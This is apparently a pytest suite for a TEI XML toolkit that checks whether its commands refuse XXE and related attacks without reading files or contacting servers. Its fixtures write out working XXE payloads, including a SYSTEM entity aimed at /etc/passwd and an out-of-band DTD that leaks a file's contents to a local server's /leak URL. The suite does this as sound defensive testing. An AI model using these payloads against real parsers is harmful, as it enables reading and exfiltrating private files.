"""Untrusted XML: entity declarations are refused before any parser or validator reads them."""
from __future__ import annotations

import errno
import http.server
import os
import socket
import threading
import time
from pathlib import Path

import pytest

from teiencode import validate, xmlsafe
from teiencode.diagnostics import ValidationError

BROKEN = Path(__file__).parent / "data" / "broken"
XXE = """<?xml version="1.0"?>
<!DOCTYPE TEI [ <!ENTITY secret SYSTEM "{uri}"> ]>
<TEI xmlns="http://www.tei-c.org/ns/1.0"><teiHeader><fileDesc><titleStmt><title type="main">&secret;</title>
</titleStmt><publicationStmt><p>x</p></publicationStmt><sourceDesc><p>x</p></sourceDesc></fileDesc></teiHeader>
<text><body><p>&secret;</p></body></text></TEI>
"""


class _FifoWatch:
    """A named pipe that records whether anything opened it for reading."""

    def __init__(self, path: Path):
        self.path = path
        os.mkfifo(path)
        self.opened = False
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)

    def _watch(self) -> None:
        while not self._stop.is_set():
            try:
                # succeeds only while a reader holds the pipe open
                fd = os.open(self.path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError as exc:
                assert exc.errno == errno.ENXIO
                time.sleep(0.005)
                continue
            self.opened = True
            os.close(fd)  # gives the reader EOF so it cannot hang

    def __enter__(self) -> "_FifoWatch":
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join()


@pytest.mark.parametrize("name", ["xxe.tei.xml", "billion-laughs.tei.xml"])
def test_shipped_attacks_fail_cleanly_and_fast(name):
    start = time.perf_counter()
    diagnostics = list(validate.iter_diagnostics(BROKEN / name))
    elapsed = time.perf_counter() - start
    assert [d.code for d in diagnostics] == ["xml-entity"]
    assert diagnostics[0].line == 4 and "entity" in diagnostics[0].message
    assert elapsed < 1.0


def test_xxe_reads_nothing_from_disk(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    pipe = tmp_path / "pipe"
    with _FifoWatch(pipe) as watch:
        for target in (secret, pipe):
            doc = tmp_path / f"xxe-{target.name}.xml"
            doc.write_text(XXE.format(uri=target.as_uri()))
            diagnostics = list(validate.iter_diagnostics(doc))
            assert [d.code for d in diagnostics] == ["xml-entity"]
            assert "TOP-SECRET" not in repr(diagnostics)
        time.sleep(0.05)
    assert not watch.opened, "an entity was resolved: the named pipe was opened"


def test_xxe_contacts_no_server(tmp_path):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(0.3)
    doc = tmp_path / "xxe-http.xml"
    doc.write_text(XXE.format(uri=f"http://127.0.0.1:{server.getsockname()[1]}/secret"))
    try:
        assert [d.code for d in validate.iter_diagnostics(doc)] == ["xml-entity"]
        with pytest.raises(socket.timeout):
            server.accept()
    finally:
        server.close()


def test_utf16_doctype_is_refused_too(tmp_path):
    doc = tmp_path / "xxe16.xml"
    doc.write_bytes(XXE.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
                    .format(uri="file:///etc/passwd").encode("utf-16"))
    with pytest.raises(ValidationError) as info:
        xmlsafe.parse(doc)
    assert info.value.diagnostic.code == "xml-entity"


def test_tei_all_check_never_hands_jing_an_entity(tmp_path):
    pipe = tmp_path / "pipe"
    doc = tmp_path / "xxe.xml"
    doc.write_text(XXE.format(uri=pipe.as_uri()))
    if validate.default_tei_all() is None:
        pytest.skip("tei_all.rng not found: set TEI_ALL_RNG")
    with _FifoWatch(pipe) as watch:
        diagnostics = validate.check_tei_all(doc)
    assert [d.code for d in diagnostics] == ["xml-entity"]
    assert not watch.opened


def test_doctype_without_entities_is_parsed(tmp_path):
    doc = tmp_path / "plain.xml"
    doc.write_text('<?xml version="1.0"?>\n<!DOCTYPE TEI [\n<!ELEMENT TEI ANY>\n]>\n'
                   '<TEI xmlns="http://www.tei-c.org/ns/1.0"/>\n')
    assert xmlsafe.parse(doc).getroot().tag.endswith("TEI")


@pytest.mark.parametrize("doctype,code,where", [
    ('<!DOCTYPE TEI SYSTEM "http://127.0.0.1:9/tei.dtd">', "xml-dtd", (2, 1)),
    ('<!DOCTYPE TEI PUBLIC "-//X//DTD X//EN" "tei.dtd">', "xml-dtd", (2, 1)),
    ("<!DOCTYPE TEI [ %ext; ]>", "xml-entity", (2, 17)),
])
def test_external_dtd_and_undeclared_entity_are_refused(tmp_path, doctype, code, where):
    doc = tmp_path / "doc.xml"
    doc.write_text(f'<?xml version="1.0"?>\n{doctype}\n<TEI xmlns="http://www.tei-c.org/ns/1.0"/>\n')
    with pytest.raises(ValidationError) as info:
        xmlsafe.parse(doc)
    diag = info.value.diagnostic
    assert (diag.code, diag.path, (diag.line, diag.col)) == (code, str(doc), where)


def test_syntax_error_has_a_position(tmp_path):
    doc = tmp_path / "bad.xml"
    doc.write_text("<TEI>\n  <p>open\n</TEI>\n")
    with pytest.raises(ValidationError) as info:
        xmlsafe.parse(doc)
    diag = info.value.diagnostic
    assert diag.code == "xml-syntax" and diag.line == 3 and diag.col > 1


def test_fifo_watch_sees_a_reader(tmp_path):
    # control: the watch does detect a parser that resolves the entity
    from lxml import etree
    pipe = tmp_path / "pipe"
    doc = tmp_path / "xxe.xml"
    doc.write_text(XXE.format(uri=pipe.as_uri()))
    with _FifoWatch(pipe) as watch:
        etree.parse(str(doc), etree.XMLParser(resolve_entities=True, no_network=True))
        time.sleep(0.05)
    assert watch.opened


# --- every command on hostile XML: no request, no read of a file the user did not name ------------

SAMPLE = Path(__file__).parent / "data" / "sample.tei.xml"
MARKER = "SECRET-MARKER-7f3a"


class _Recorder(http.server.BaseHTTPRequestHandler):
    """Serves an exfiltrating DTD to anyone who asks, and records every request."""

    requests: list[str] = []
    dtd = b""

    def do_GET(self):  # noqa: N802 - the http.server interface
        self.requests.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(self.dtd)

    def log_message(self, *args):
        pass


@pytest.fixture
def hostile(tmp_path):
    """Hostile TEI files (external DTD over HTTP, a local file as DTD, an undeclared entity, an
    XInclude of a local file), the secret they aim at, and the requests a local server received."""
    secret = tmp_path / "secret.txt"
    secret.write_text(MARKER)
    pipe = tmp_path / "secret.pipe"
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    base = f"http://127.0.0.1:{server.server_address[1]}"
    _Recorder.requests = []
    _Recorder.dtd = (f'<!ENTITY % file SYSTEM "{secret.as_uri()}">\n'
                     f'<!ENTITY % eval "<!ENTITY &#x25; leak SYSTEM &#x27;{base}/leak?%file;&#x27;>">\n'
                     '%eval;\n%leak;\n').encode()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    sample = SAMPLE.read_text(encoding="utf-8")
    head, rest = sample.split("\n", 1)
    prologs = {
        "http-dtd": f'<!DOCTYPE TEI SYSTEM "{base}/evil.dtd">',
        "public-dtd": f'<!DOCTYPE TEI PUBLIC "-//Evil//DTD Evil//EN" "{base}/public.dtd">',
        "file-dtd": f'<!DOCTYPE TEI SYSTEM "{pipe.as_uri()}">',
        "pe-reference": "<!DOCTYPE TEI [ %leak; ]>",
    }
    files = {}
    for name, prolog in prologs.items():
        files[name] = tmp_path / "in" / f"{name}.tei.xml"
        files[name].parent.mkdir(exist_ok=True)
        body = rest.replace("</titleStmt>", f"<title>&leak;</title></titleStmt>", 1)
        files[name].write_text(f"{head}\n{prolog}\n{body}", encoding="utf-8")
    xinclude = tmp_path / "in" / "xinclude.tei.xml"
    xinclude.write_text(rest.replace("</titleStmt>", '<title><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                                     f'href="{secret.as_uri()}" parse="text"/></title></titleStmt>', 1),
                        encoding="utf-8")
    try:
        with _FifoWatch(pipe) as watch:
            yield {"files": files, "xinclude": xinclude, "watch": watch, "requests": _Recorder.requests}
            time.sleep(0.05)
    finally:
        server.shutdown()
        server.server_close()


def _cli(*args):
    from click.testing import CliRunner
    from teiencode.cli import main
    return CliRunner().invoke(main, [str(a) for a in args])


def _assert_refused(result, hostile, path, code):
    assert result.exit_code == 1, (result.stdout, result.stderr)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    line = next(text for text in (result.stdout + result.stderr).splitlines() if code in text)
    assert line.startswith(f"{path}:") and f"ERROR {code}:" in line
    assert MARKER not in result.stdout + result.stderr
    assert hostile["requests"] == [], "the validator reached the network"
    assert not hostile["watch"].opened, "a file the user did not name was opened"


def _codes(name):
    return "xml-entity" if name == "pe-reference" else "xml-dtd"


@pytest.mark.parametrize("tei_all", [False, True], ids=["validate", "validate-tei-all"])
def test_validate_never_fetches_what_a_file_points_at(hostile, tei_all):
    if tei_all and validate.default_tei_all() is None:
        pytest.skip("tei_all.rng not found: set TEI_ALL_RNG")
    for name, path in hostile["files"].items():
        result = _cli("validate", *(["--tei-all"] if tei_all else []), path)
        _assert_refused(result, hostile, path, _codes(name))
    result = _cli("validate", *(["--tei-all"] if tei_all else []), hostile["xinclude"])
    assert result.exit_code == 1 and MARKER not in result.stdout + result.stderr
    assert hostile["requests"] == [] and not hostile["watch"].opened


@pytest.mark.parametrize("command", ["render", "text", "deposit"])
def test_views_text_and_deposit_refuse_hostile_xml(hostile, command, tmp_path):
    for name, path in hostile["files"].items():
        out = tmp_path / f"out-{command}-{name}"
        if command == "deposit":
            build = tmp_path / f"build-{name}"
            build.mkdir()
            target = build / "doc.tei.xml"
            target.write_bytes(path.read_bytes())
            result = _cli("deposit", build, "-o", out)
        else:
            target = path
            result = _cli(command, path, *(["-o", out] if command == "render" else []))
        _assert_refused(result, hostile, target, _codes(name))
        written = [p for p in out.rglob("*") if p.is_file()] if out.exists() else []
        assert not any(MARKER in p.read_text(errors="replace") for p in written)


def test_build_refuses_a_hostile_hand_edit(hostile, tmp_path):
    export = tmp_path / "doc.txt"
    export.write_text("\nMay 1, 1950\n\n**Letter, A to B**\n\nThe plan was approved.\n", encoding="utf-8")
    out = tmp_path / "out"
    assert _cli("build", export, "-o", out, "-j", "1").exit_code == 0
    for name, path in hostile["files"].items():
        tei = out / "doc.tei.xml"
        tei.write_bytes(path.read_bytes())  # a hand edit the build keeps and renders views from
        result = _cli("build", export, "-o", out, "-j", "1")
        _assert_refused(result, hostile, tei, _codes(name))
        assert not any(MARKER in p.read_text(errors="replace") for p in out.glob("*.html"))
